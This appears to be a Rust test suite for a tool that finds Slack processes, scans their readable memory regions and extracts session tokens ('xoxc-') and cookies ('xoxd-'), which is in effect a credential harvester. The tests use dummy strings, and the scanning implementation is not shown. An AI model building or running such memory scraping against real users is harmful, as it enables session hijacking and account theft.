use tagami::mem::{
    capture, pids_by_name, pids_with_prefix, scan_slack, ProcessEntry, Region, Scan, ScanAction,
    CHUNK, COOKIE_PREFIX, PAGE_GUARD, PAGE_READONLY, PAGE_READWRITE, SCAN_BUDGET, TOKEN_PREFIX,
};
use tagami::order::TextSet;

fn found(buf: &[u8], prefix: &[u8]) -> Vec<String> {
    let mut out = TextSet::new();
    capture(buf, prefix, &mut out);
    out.into_list()
}

fn region(base: u64, size: u64) -> Region {
    Region { base, size, protect: PAGE_READWRITE, committed: true, private: true }
}

#[test]
fn prefixes_are_those_of_the_chat() {
    assert_eq!(&TOKEN_PREFIX, b"xoxc-");
    assert_eq!(&COOKIE_PREFIX, b"xoxd-");
}

#[test]
fn long_runs_are_captured() {
    let token = format!("xoxc-{}", "a1B2-_+/=%".repeat(4));
    let buf = format!("junk\0{}\0xoxc-short\0{}!", token, token);
    assert_eq!(found(buf.as_bytes(), b"xoxc-"), vec![token]);
}

#[test]
fn short_runs_are_not_captured() {
    let just = format!("xoxc-{}", "a".repeat(35));
    let short = format!("xoxc-{}", "a".repeat(34));
    assert_eq!(found(format!("{}\0", just).as_bytes(), b"xoxc-"), vec![just]);
    assert!(found(format!("{}\0", short).as_bytes(), b"xoxc-").is_empty());
}

#[test]
fn a_run_is_captured_from_its_first_prefix() {
    let run = format!("xoxc-{}xoxc-{}", "b".repeat(40), "c".repeat(40));
    assert_eq!(found(run.as_bytes(), b"xoxc-"), vec![run]);
}

#[test]
fn a_run_may_go_on_to_the_end() {
    let run = format!("xoxd-{}", "z".repeat(60));
    assert_eq!(found(run.as_bytes(), b"xoxd-"), vec![run]);
    assert!(found(b"xoxd-", b"xoxd-").is_empty());
    assert!(found(b"", b"xoxd-").is_empty());
}

#[test]
fn what_is_captured_adds_up() {
    let a = format!("xoxc-{}", "a".repeat(50));
    let b = format!("xoxc-{}", "b".repeat(50));
    let mut out = TextSet::new();
    capture(b.as_bytes(), b"xoxc-", &mut out);
    capture(a.as_bytes(), b"xoxc-", &mut out);
    capture(b.as_bytes(), b"xoxc-", &mut out);
    assert_eq!(out.into_list(), vec![a, b]);
}

#[test]
fn a_scan_reads_readable_regions_only() {
    let mut s = Scan::new(SCAN_BUDGET);
    assert!(matches!(s.next(), ScanAction::Query { addr: 0 }));
    s.on_region(Some(Region { committed: false, ..region(0, 0x1000) }));
    assert!(matches!(s.next(), ScanAction::Query { addr: 0x1000 }));
    s.on_region(Some(Region { protect: PAGE_READWRITE | PAGE_GUARD, ..region(0x1000, 0x1000) }));
    s.on_region(Some(Region { private: false, ..region(0x2000, 0x1000) }));
    s.on_region(Some(Region { protect: 0x10, ..region(0x3000, 0x1000) }));
    assert!(matches!(s.next(), ScanAction::Query { addr: 0x4000 }));
    s.on_region(Some(Region { protect: PAGE_READONLY, ..region(0x4000, 0x800) }));
    assert!(matches!(s.next(), ScanAction::Read { addr: 0x4000, len: 0x800 }));
    let token = format!("xoxc-{}", "t".repeat(40));
    let cookie = format!("xoxd-{}", "c".repeat(40));
    s.on_chunk(Some(format!("{}\0{}\0", token, cookie).into_bytes()));
    assert!(matches!(s.next(), ScanAction::Query { addr: 0x4800 }));
    s.on_region(None);
    assert!(matches!(s.next(), ScanAction::Done));
    assert_eq!(s.tokens.into_list(), vec![token]);
    assert_eq!(s.cookies.into_list(), vec![cookie]);
}

#[test]
fn a_scan_reads_in_chunks_and_moves_forward() {
    let mut s = Scan::new(SCAN_BUDGET);
    s.on_region(Some(region(0x10000, CHUNK + 10)));
    assert!(matches!(s.next(), ScanAction::Read { addr: 0x10000, len } if len == CHUNK));
    s.on_chunk(None);
    assert!(matches!(s.next(), ScanAction::Read { addr, len: 10 } if addr == 0x10000 + CHUNK));
    s.on_chunk(Some(vec![0]));
    assert_eq!(s.scanned, 0);
    assert!(matches!(s.next(), ScanAction::Query { addr } if addr == 0x10000 + CHUNK + 10));
    s.on_region(Some(region(0x10, 0x10)));
    s.on_chunk(Some(vec![0; 0x10]));
    assert_eq!(s.scanned, 0x10);
    assert!(matches!(s.next(), ScanAction::Done));
}

#[test]
fn a_scan_keeps_to_its_budget() {
    let mut s = Scan::new(100);
    s.on_region(Some(region(0, 3 * CHUNK)));
    assert!(matches!(s.next(), ScanAction::Read { addr: 0, len: 100 }));
    s.on_chunk(Some(vec![0; 60]));
    assert_eq!(s.scanned, 60);
    assert!(matches!(s.next(), ScanAction::Read { addr, len: 40 } if addr == CHUNK));
    s.on_chunk(Some(vec![0; 40]));
    assert_eq!(s.scanned, 100);
    assert!(matches!(s.next(), ScanAction::Done));
    assert!(matches!(Scan::new(0).next(), ScanAction::Done));
    assert!(matches!(Scan::new(1).next(), ScanAction::Done));
    let mut s = Scan::new(2);
    s.on_region(Some(region(0, 100)));
    assert!(matches!(s.next(), ScanAction::Read { addr: 0, len: 2 }));
    let mut s = Scan::new(100);
    s.on_region(Some(region(0, 3 * CHUNK)));
    s.on_chunk(Some(vec![0; 99]));
    assert_eq!(s.scanned, 99);
    assert!(matches!(s.next(), ScanAction::Done));
    let mut s = Scan::new(u64::MAX);
    s.on_region(Some(region(0, 100)));
    assert!(matches!(s.next(), ScanAction::Read { addr: 0, len: 100 }));
}

#[test]
fn what_is_found_begins_with_its_prefix() {
    let mut s = Scan::new(SCAN_BUDGET);
    s.on_region(Some(region(0x1000, 0x1000)));
    let token = format!("xoxc-{}", "t".repeat(40));
    let cookie = format!("xoxd-{}", "c".repeat(40));
    s.on_chunk(Some(format!("{} {} xoxd-x xoxb-{}", token, cookie, "b".repeat(40)).into_bytes()));
    let (t, c) = scan_slack(vec![(s.tokens, s.cookies)]);
    assert_eq!((t.len(), c.len()), (1, 1));
    assert!(t.iter().all(|x| x.starts_with("xoxc-") && x.len() >= 40));
    assert!(c.iter().all(|x| x.starts_with("xoxd-") && x.len() >= 40));
}

#[test]
fn a_foreign_byte_splits_a_block() {
    let t = |c: &str| format!("xoxc-{}", c.repeat(40));
    let a = format!("{} x{}", t("a"), "xoxc-");
    let b = format!("{}{}", "z".repeat(9), t("b"));
    for z in [0u8, b' ', b'"', 0xFF] {
        let mut whole = a.clone().into_bytes();
        whole.push(z);
        whole.extend(b.bytes());
        let mut out = TextSet::new();
        capture(a.as_bytes(), b"xoxc-", &mut out);
        capture(b.as_bytes(), b"xoxc-", &mut out);
        capture(b.as_bytes(), b"xoxc-", &mut out);
        let parts = out.into_list();
        assert_eq!(found(&whole, b"xoxc-"), parts);
        assert_eq!(parts, vec![t("a"), t("b")]);
    }
}

#[test]
fn processes_are_found_by_name() {
    let list = vec![
        ProcessEntry { name: "Slack.exe\0\0".to_string(), pid: 3 },
        ProcessEntry { name: "explorer.exe".to_string(), pid: 4 },
        ProcessEntry { name: "SLACK-HELPER".to_string(), pid: 5 },
        ProcessEntry { name: "my slack".to_string(), pid: 6 },
    ];
    assert_eq!(pids_by_name("sLaCk", &list), vec![3, 5]);
    assert_eq!(pids_with_prefix("Slack", &list), vec![3]);
}

#[test]
fn credentials_of_all_processes() {
    let set = |list: &[&str]| {
        let mut s = TextSet::new();
        for t in list {
            s.insert(t.to_string());
        }
        s
    };
    let (t, c) = scan_slack(vec![
        (set(&["t2", "t1"]), set(&["c"])),
        (set(&["t3", "t1"]), set(&[])),
    ]);
    assert_eq!(t, vec!["t1", "t2", "t3"]);
    assert_eq!(c, vec!["c"]);
    let (t, c) = scan_slack(Vec::new());
    assert!(t.is_empty() && c.is_empty());
}
